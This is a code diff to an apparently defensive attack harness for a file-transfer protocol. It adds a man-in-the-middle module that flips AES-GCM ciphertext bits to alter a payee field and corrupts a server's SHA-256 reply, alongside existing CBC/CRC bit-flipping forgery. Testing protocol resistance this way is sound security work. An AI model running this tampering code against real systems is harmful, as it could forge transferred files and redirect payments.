@@ -17,11 +17,20 @@ victim's attempt back:
    ``S ^ S'`` and send the change with those flips as the real attempt. The server's
    CRC of it is ``S``: we forward that genuine 1603 to the client, which confirms
    with 900, and the server stores the modified file.
+
+``--protocol 4``: AES-GCM is malleable too (a counter mode: flipping a ciphertext bit
+flips that plaintext bit, without garbling anything), but its tag covers the header and
+every byte. We flip ``known ^ replace`` into the data record that carries ``--offset``
+(assuming the upload starts at chunk 1) and forward it: the server closes without an
+answer. When the client reconnects and resumes, we let its data through and flip one
+byte of the server's 1603 (the SHA-256 inside it) instead: the client stops without a
+verdict. Success would be any answer to an altered record.
 """
 
 from __future__ import annotations
 
 import argparse
+import asyncio
 
 from eft_protocol.codes import RequestCode, ResponseCode
 
@@ -30,6 +39,7 @@ from .framing import Frame, name_request, resliced
 from .gf2 import members, solve
 from .proxy import Interceptor, MitmConnection, MitmProxy
 from .recording import Attempt
+from .v4 import PREFIX, add_protocol_argument, flip
 
 FINDING = "EFT-07"
 SUMMARY = "CBC bit flipping with the CRC kept equal (CRC-32 is linear, not a MAC)"
@@ -44,6 +54,10 @@ def add_arguments(parser: argparse.ArgumentParser) -> None:
     parser.add_argument("--replace", required=True, help="what it should say (same length)")
     parser.add_argument("--file", help="only this file (default: the first one)")
     parser.add_argument("--positions", type=int, default=48, help="CRC-fixing flips (48)")
+    add_protocol_argument(parser)
+    parser.add_argument(
+        "--linger", type=float, default=5.0, help="version 4: wait for a reconnect (5 s)"
+    )
 
 
 class Forge(Interceptor):
@@ -138,7 +152,91 @@ class Forge(Interceptor):
         self.proxy.finish(self.outcome is not None)
 
 
+class ForgeV4(Interceptor):
+    def __init__(self, out: Out, args: argparse.Namespace) -> None:
+        self.out, self.args = out, args
+        known, replace = args.known.encode(), args.replace.encode()
+        if len(known) != len(replace):
+            raise AttackError("--known and --replace must have one length")
+        self.delta = bytes(a ^ b for a, b in zip(known, replace, strict=True))
+        self.altered_828 = 0
+        self.altered_1603 = 0
+        self.server_after_828: list[int] = []  # what the server sent after an altered 828
+        self.client_after_1603: list[int] = []  # what the client sent after an altered 1603
+
+    async def client_frame(self, conn: MitmConnection, frame: Frame) -> None:
+        scratch = conn.scratch
+        count = scratch["requests"] = scratch.get("requests", 0) + 1
+        if scratch.get("altered") == 1603:
+            self.client_after_1603.append(frame.code)
+        if count <= 2 or frame.code != RequestCode.SEND_FILE:
+            scratch["meta_next"] = count == 2 or frame.code in (900, 901, 902)
+            await conn.to_server(frame.raw)
+            return
+        if scratch.pop("meta_next", False):
+            scratch["at"] = 0  # file bytes before this upload's next data record
+            await conn.to_server(frame.raw)
+            return
+        start, size = scratch["at"], len(frame.payload) - PREFIX - 16
+        scratch["at"] = start + size
+        offset = self.args.offset
+        if self.altered_828 == 0 and start <= offset < start + size - len(self.delta) + 1:
+            raw = frame.raw
+            for i, mask in enumerate(self.delta):
+                raw = flip(raw, 23 + PREFIX + offset - start + i, mask)
+            self.altered_828 += 1
+            scratch["altered"] = 828
+            self.out.step(f"connection {conn.number}: flipped the payee in the data record")
+            await conn.to_server(raw)
+            return
+        await conn.to_server(frame.raw)
+
+    async def server_frame(self, conn: MitmConnection, frame: Frame) -> None:
+        scratch = conn.scratch
+        if scratch.get("altered") == 828:
+            self.server_after_828.append(frame.code)
+        elif frame.code == 1603 and self.altered_828 and not self.altered_1603:
+            self.altered_1603 += 1
+            scratch["altered"] = 1603
+            self.out.step(f"connection {conn.number}: flipped a byte of the SHA-256 in 1603")
+            await conn.to_client(flip(frame.raw, 7 + 12))
+            return
+        await conn.to_client(frame.raw)
+
+    async def client_closed(self, conn: MitmConnection) -> None:
+        conn.close_server()
+        if conn.scratch.get("altered") == 1603:
+            self.proxy.finish(False)
+        elif conn.scratch.get("altered") == 828:
+            asyncio.get_running_loop().call_later(self.args.linger, self._no_reconnect)
+
+    def _no_reconnect(self) -> None:
+        if not self.altered_1603:
+            self.proxy.finish(False)
+
+
+async def run_v4(args: argparse.Namespace, out: Out) -> bool:
+    forge = ForgeV4(out, args)
+    await MitmProxy(args.target, forge, out).run(args.listen, args.timeout)
+    fields = {
+        "altered_828": forge.altered_828,
+        "altered_1603": forge.altered_1603,
+        "server_after_altered_828": forge.server_after_828,
+        "client_after_altered_1603": forge.client_after_1603,
+    }
+    if forge.server_after_828 or forge.client_after_1603:
+        return out.result(True, "an altered record was answered", **fields)
+    return out.result(
+        False,
+        "the server closed on the altered data record without an answer, and the client "
+        "stopped on the altered 1603 without a verdict",
+        **fields,
+    )
+
+
 async def run(args: argparse.Namespace, out: Out) -> bool:
+    if args.protocol == 4:
+        return await run_v4(args, out)
     forge = Forge(out, args)
     await MitmProxy(args.target, forge, out).run(args.listen, args.timeout)
     outcome = forge.outcome or {}
